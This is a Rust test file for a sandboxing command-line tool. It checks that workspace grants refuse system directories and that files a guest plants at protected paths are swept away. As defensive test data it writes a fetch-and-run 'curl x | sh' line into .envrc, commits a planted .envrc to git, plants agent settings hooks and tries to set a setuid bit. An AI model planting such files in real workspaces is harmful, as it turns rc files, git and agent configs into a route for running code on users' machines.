//! G6: `--workspace` grants only a dedicated directory, and one the user owns is usable
//! whatever its mode, with what the guest makes there belonging to the user.

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::PathBuf;

use crate::cli::{check, js_ready, ready};

/// A fresh 0700 directory, as `mktemp -d` makes.
fn private_dir(tag: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("stockade-cli-ws-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    std::fs::create_dir_all(&d).unwrap();
    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o700)).unwrap();
    d
}

#[test]
fn g6_a_mktemp_workspace_is_usable_and_what_the_guest_makes_is_the_users() {
    if !ready() {
        return;
    }
    let me = std::fs::metadata("/proc/self").unwrap();
    let d = private_dir("mine");
    std::fs::write(d.join("input.txt"), "from the user\n").unwrap();
    std::fs::set_permissions(d.join("input.txt"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let ws = d.display().to_string();
    let (code, out, err) =
        check(&["run", "--workspace", &ws, "--", "sh", "-c", "ls /workspace; cat /workspace/input.txt"]);
    assert_eq!((code, out.as_str(), err.as_str()), (0, "input.txt\nfrom the user\n", ""));
    let rw = format!("{ws}:rw");
    let script = "echo made > /workspace/out.txt && mkdir /workspace/sub && id -u";
    let (code, out, err) = check(&["run", "--workspace", &rw, "--", "sh", "-c", script]);
    assert_eq!(code, 0, "{err}");
    assert_ne!(out.trim(), "0", "the guest ran as uid 0");
    for name in ["out.txt", "sub"] {
        let m = std::fs::metadata(d.join(name)).unwrap();
        assert_eq!((m.uid(), m.gid()), (me.uid(), me.gid()), "{name}");
    }
    assert_eq!(std::fs::read_to_string(d.join("out.txt")).unwrap(), "made\n");
    // One level deeper, under a 0700 parent: the same.
    let deep = d.join("a/b");
    std::fs::create_dir_all(&deep).unwrap();
    std::fs::set_permissions(d.join("a"), std::fs::Permissions::from_mode(0o700)).unwrap();
    let deep_rw = format!("{}:rw", deep.display());
    let (code, _, err) = check(&["run", "--workspace", &deep_rw, "--", "touch", "/workspace/deep"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(std::fs::metadata(deep.join("deep")).unwrap().uid(), me.uid());
    // A set-uid bit cannot be planted there.
    let (code, _, err) = check(&["run", "--workspace", &rw, "--", "chmod", "4755", "/workspace/out.txt"]);
    assert_eq!(code, 1, "{err}");
    assert!(err.contains("Operation not permitted"), "{err}");
    assert_eq!(std::fs::metadata(d.join("out.txt")).unwrap().mode() & 0o7000, 0);
    // What it plants at a protected path is removed when it ends, and one line says so;
    // its output and exit code are untouched.
    let plant = "echo 'curl x | sh' > /workspace/.envrc && mkdir -p /workspace/.vscode && echo planted";
    let (code, out, err) = check(&["run", "--workspace", &rw, "--", "sh", "-c", plant]);
    assert_eq!((code, out.as_str()), (0, "planted\n"), "{err}");
    assert_eq!(
        err,
        "stockade: removed from the workspace what the program created at protected paths (git hooks and config, rc files, editor and agent settings stay the host's): .envrc .vscode\n"
    );
    assert!(!d.join(".envrc").exists() && !d.join(".vscode").exists());
    let (code, out, err) = check(&["run", "--json", "--workspace", &rw, "--", "sh", "-c", plant]);
    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert_eq!((code, err.as_str()), (0, ""));
    assert!(report["enforcement"].to_string().contains("protected path was absent: .envrc .vscode"), "{report:#}");
    std::fs::remove_dir_all(&d).unwrap();
}

#[test]
fn g6_system_and_shared_directories_are_refused_in_one_line() {
    if !ready() {
        return;
    }
    let d = private_dir("refused");
    std::os::unix::fs::symlink("/etc", d.join("etc-link")).unwrap();
    let link = format!("{}:rw", d.join("etc-link").display());
    for (ws, shown, why) in [
        ("/etc:rw", "/etc", "it is a system directory"),
        ("/etc", "/etc", "it is a system directory"),
        ("/", "/", "it is the root directory"),
        ("/usr/share", "/usr/share", "it is inside the system directory /usr"),
        ("/tmp:rw", "/tmp", "it is a shared directory itself"),
        ("/root", "/root", "it is a shared directory itself"),
    ] {
        let (code, out, err) = check(&["run", "--workspace", ws, "--", "true"]);
        assert_eq!(code, 125, "{ws}: {err}");
        assert_eq!(out, "");
        assert_eq!(err.lines().count(), 1, "{err}");
        assert!(
            err.starts_with(&format!("stockade: misconfigured: workspace {shown} cannot be granted: {why}")),
            "{ws}: {err}"
        );
    }
    // A symlink out of the directory holding it (as an earlier run's guest could plant) is
    // refused as such, naming where it leads; followed on request, the target is judged.
    let (code, out, err) = check(&["run", "--workspace", &link, "--", "true"]);
    assert_eq!((code, out.as_str(), err.lines().count()), (125, "", 1), "{err}");
    assert!(
        err.contains(&format!(
            "{} is a symlink to /etc, outside the directory that holds it",
            d.join("etc-link").display()
        )) && err.ends_with("or pass --follow-workspace-links\n"),
        "{err}"
    );
    let (code, _, err) = check(&["run", "--workspace", &link, "--follow-workspace-links", "--", "true"]);
    assert_eq!(code, 125, "{err}");
    assert!(
        err.starts_with("stockade: misconfigured: workspace /etc cannot be granted: it is a system directory"),
        "{err}"
    );
    // A symlink that stays inside its directory is followed.
    std::fs::create_dir(d.join("real")).unwrap();
    std::os::unix::fs::symlink("real", d.join("current")).unwrap();
    let (code, _, err) =
        check(&["run", "--workspace", &d.join("current").display().to_string(), "--", "ls", "/workspace"]);
    assert_eq!(code, 0, "{err}");
    if js_ready() {
        let (code, _, err) = check(&["run", "--tier", "wasm", "--workspace", "/etc", "--js", "console.log(1)"]);
        assert_eq!(code, 125, "{err}");
        assert!(err.contains("workspace /etc cannot be granted: it is a system directory"), "{err}");
    }
    std::fs::remove_dir_all(&d).unwrap();
}

/// A `stockade run` whose program plants `.claude/settings.json` and `.envrc` in the
/// read-write workspace `ws`, says `ready` on stderr and sleeps (its command line carries
/// `marker`), with `state` as its state directory if given; returned once it said `ready`,
/// with the rest of its stderr.
fn planting_run(
    ws: &std::path::Path,
    marker: &str,
    state: Option<&std::path::Path>,
) -> (std::process::Child, std::io::BufReader<std::process::ChildStderr>) {
    use std::io::BufRead;
    let script = format!(
        "mkdir /workspace/.claude && echo hook > /workspace/.claude/settings.json && echo x > /workspace/.envrc && echo ready >&2 && sleep 30; : {marker}"
    );
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_stockade"));
    cmd.args(["run", "--workspace", &format!("{}:rw", ws.display()), "--", "sh", "-c", &script]);
    if let Some(state) = state {
        cmd.env("STOCKADE_STATE_DIR", state);
    }
    let mut child = cmd
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut err = std::io::BufReader::new(child.stderr.take().unwrap());
    let mut line = String::new();
    err.read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    (child, err)
}

/// hold-the-line, finding 4: SIGTERM (or SIGINT) to `stockade run` ended the CLI before the
/// sweep, so what the program planted at protected paths stayed on the host. Now the signal
/// stops the run, the workspace is swept, and the CLI exits 128 + N. Judged by the host's
/// workspace and by the program's processes in the host's /proc.
#[test]
fn g6_sigterm_or_sigint_to_stockade_run_stops_the_run_and_still_sweeps() {
    if !ready() {
        return;
    }
    let _runs = crate::cli::shared();
    for (signal, code) in [(15, 143), (2, 130)] {
        let ws = private_dir(&format!("signal-{signal}"));
        let marker = format!("stockade-cli-signal-{signal}-{}", std::process::id());
        let (mut child, mut err) = planting_run(&ws, &marker, None);
        assert!(ws.join(".envrc").exists(), "the program did not plant before the signal");
        // Our own child, by its pid.
        let status =
            std::process::Command::new("kill").args([&format!("-{signal}"), &child.id().to_string()]).status().unwrap();
        assert!(status.success());
        let exit = child.wait().unwrap();
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut err, &mut rest).unwrap();
        assert_eq!(exit.code(), Some(code), "{rest}");
        assert!(rest.contains("stockade: stopped by SIG"), "{rest}");
        assert!(!ws.join(".claude").exists() && !ws.join(".envrc").exists(), "the signal skipped the sweep");
        let left = stockade_test_support::host_pids(|cmd| String::from_utf8_lossy(cmd).contains(&marker));
        assert!(left.is_empty(), "the program outlived the CLI: {left:?}");
        let _ = std::fs::remove_dir_all(&ws);
    }
}

/// hold-the-line, finding 4: a `stockade run` that is SIGKILLed gets no chance to sweep, so
/// what its program planted stayed for good. Now the run's sweep is recorded before the
/// program starts, and `stockade gc`, or the next `stockade run`, finishes it. Judged by the
/// host's workspace and the record directory.
#[test]
fn g6_the_sweep_of_a_sigkilled_stockade_run_is_finished_by_gc_or_the_next_run() {
    if !ready() {
        return;
    }
    let _runs = crate::cli::shared();
    let state = private_dir("state-killed");
    let records = || std::fs::read_dir(state.join("sweeps")).map(Iterator::count).unwrap_or(0);
    for finisher in ["gc", "run"] {
        let ws = private_dir(&format!("killed-{finisher}"));
        let marker = format!("stockade-cli-killed-{finisher}-{}", std::process::id());
        let (mut child, _err) = planting_run(&ws, &marker, Some(&state));
        // Our own child, by its pid.
        child.kill().unwrap();
        child.wait().unwrap();
        // The program dies with its supervisor.
        let gone = (0..100).any(|_| {
            std::thread::sleep(std::time::Duration::from_millis(50));
            stockade_test_support::host_pids(|cmd| String::from_utf8_lossy(cmd).contains(&marker)).is_empty()
        });
        assert!(gone, "the program outlived its killed supervisor");
        assert!(ws.join(".envrc").exists() && ws.join(".claude").exists(), "nothing was planted, or it was swept");
        assert_eq!(records(), 1, "the killed run left no sweep record");
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_stockade"))
            .args(if finisher == "gc" { &["gc"][..] } else { &["run", "--", "true"][..] })
            .env("STOCKADE_STATE_DIR", &state)
            .stdin(std::process::Stdio::null())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(if finisher == "gc" { &out.stdout } else { &out.stderr }).into_owned();
        let expected = format!("finished the sweep of a killed run in {}: removed .claude .envrc", ws.display());
        assert!(said.contains(&expected), "`stockade {finisher}` said: {said}");
        assert!(!ws.join(".envrc").exists() && !ws.join(".claude").exists(), "`stockade {finisher}` left the plants");
        assert_eq!(records(), 0, "the finished record stayed");
        let _ = std::fs::remove_dir_all(&ws);
    }
    let _ = std::fs::remove_dir_all(&state);
}

fn host_git(d: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .arg("-C")
        .arg(d)
        .args(["-c", "user.name=u", "-c", "user.email=u@u", "-c", "commit.gpgsign=false"])
        .args(args)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap().trim().to_owned()
}

/// hold-the-line, finding 9: the guest commits the `.envrc` it planted, with the real git
/// inside the sandbox. The sweep removes the file, but the user's own `git checkout -- .`
/// would restore it: `stockade run` names the moved ref with the ids the host's git shows,
/// and `--json` carries it.
#[test]
fn g6_a_commit_made_in_a_read_write_run_is_named_with_its_old_and_new_ids() {
    if !ready() {
        return;
    }
    let d = private_dir("commit");
    host_git(&d, &["init", "-q", "-b", "main"]);
    std::fs::write(d.join("a.txt"), "a\n").unwrap();
    host_git(&d, &["add", "a.txt"]);
    host_git(&d, &["commit", "-q", "-m", "the user's"]);
    let before = host_git(&d, &["rev-parse", "HEAD"]);
    let rw = format!("{}:rw", d.display());
    let script = "cd /workspace && echo 'touch /tmp/owned' > .envrc && git -c user.name=g -c user.email=g@g add -f .envrc && git -c user.name=g -c user.email=g@g commit -q -m tidy && echo committed";
    let (code, out, err) = check(&["run", "--workspace", &rw, "--env", "HOME=/tmp", "--", "sh", "-c", script]);
    assert_eq!((code, out.as_str()), (0, "committed\n"), "{err}");
    let after = host_git(&d, &["rev-parse", "HEAD"]);
    assert_ne!(before, after);
    assert!(!d.join(".envrc").exists(), "swept");
    let moved = format!("refs/heads/main {}..{}", &before[..12], &after[..12]);
    assert!(err.contains(&format!("the program changed git refs in the workspace ({moved})")), "{err}");
    // The report in --json lists it too; a run that commits nothing lists nothing.
    let (code, out, _) = check(&["run", "--json", "--workspace", &rw, "--", "true"]);
    assert_eq!(code, 0);
    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
    assert!(report.get("git_refs_moved").is_none(), "{report:#}");
    let (_, out, _) = check(&[
        "run",
        "--json",
        "--workspace",
        &rw,
        "--",
        "sh",
        "-c",
        "cd /workspace && git -c user.name=g -c user.email=g@g commit -q --allow-empty -m again",
    ]);
    let report: serde_json::Value = serde_json::from_str(&out).unwrap();
    let newest = host_git(&d, &["rev-parse", "HEAD"]);
    assert_eq!(
        report["git_refs_moved"],
        serde_json::json!([format!("refs/heads/main {}..{}", &after[..12], &newest[..12])])
    );
    std::fs::remove_dir_all(&d).unwrap();
}

/// hold-the-line, "one run at a time per read-write workspace": while a read-write run holds
/// a workspace, a run of a directory inside it (the audit's race needed exactly this pair)
/// is refused at once with `--no-wait` (exit 125, one line naming the workspace), and
/// without it waits until the holder is done. Judged by the holder's exit, seen by the host.
#[test]
fn g6_a_run_inside_a_held_read_write_workspace_waits_or_with_no_wait_is_refused() {
    use std::io::BufRead;
    if !ready() {
        return;
    }
    let _runs = crate::cli::shared();
    let ws = private_dir("held");
    std::fs::create_dir(ws.join("sub")).unwrap();
    std::fs::write(ws.join("sub/f"), "inside\n").unwrap();
    let mut holder = std::process::Command::new(env!("CARGO_BIN_EXE_stockade"))
        .args(["run", "--workspace", &format!("{}:rw", ws.display()), "--", "sh", "-c", "echo ready >&2; sleep 2"])
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let mut line = String::new();
    std::io::BufReader::new(holder.stderr.take().unwrap()).read_line(&mut line).unwrap();
    assert_eq!(line, "ready\n");
    let sub = format!("{}:ro", ws.join("sub").display());
    let refused = std::process::Command::new(env!("CARGO_BIN_EXE_stockade"))
        .args(["run", "--workspace", &sub, "--no-wait", "--", "cat", "/workspace/f"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&refused.stderr);
    assert_eq!(refused.status.code(), Some(125), "{err}");
    assert!(err.contains("is held by another run") && err.contains("/sub"), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
    assert!(refused.stdout.is_empty());
    assert!(holder.try_wait().unwrap().is_none(), "the holder ended before the refusal was judged");
    let t0 = std::time::Instant::now();
    let waited = std::process::Command::new(env!("CARGO_BIN_EXE_stockade"))
        .args(["run", "--workspace", &sub, "--", "cat", "/workspace/f"])
        .output()
        .unwrap();
    assert!(waited.status.success(), "{}", String::from_utf8_lossy(&waited.stderr));
    assert_eq!(waited.stdout, b"inside\n");
    // The holder sleeps 2 s after its first line; a run that did not wait takes a fraction.
    assert!(t0.elapsed() >= std::time::Duration::from_millis(1000), "it did not wait: {:?}", t0.elapsed());
    assert!(holder.wait().unwrap().success());
    let _ = std::fs::remove_dir_all(&ws);
}
